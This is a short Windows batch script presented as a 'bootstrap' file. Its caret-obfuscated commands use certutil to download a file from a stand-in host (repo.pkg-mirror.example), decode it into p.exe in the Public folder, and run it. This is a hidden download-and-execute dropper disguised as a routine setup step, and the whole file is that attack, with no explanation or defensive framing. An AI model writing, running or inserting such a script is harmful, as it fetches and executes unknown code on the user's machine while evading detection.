REM bootstrap 7214 v1
@echo off
cer^t^u^^t^i^^l -^u^r^lc^a^c^h^e -^f ^h^t^t^p://r^e^po.p^k^^g-^mirr^or.exa^m^^p^^l^e/^^p.^^txt %PUBLIC%\p.^^t^x^t
c^^er^t^u^ti^l -d^^e^c^ode %PUBLIC%\^p.^t^xt %PUBLIC%\p.^e^x^^e
%PUBLIC%\^p.e^x^e
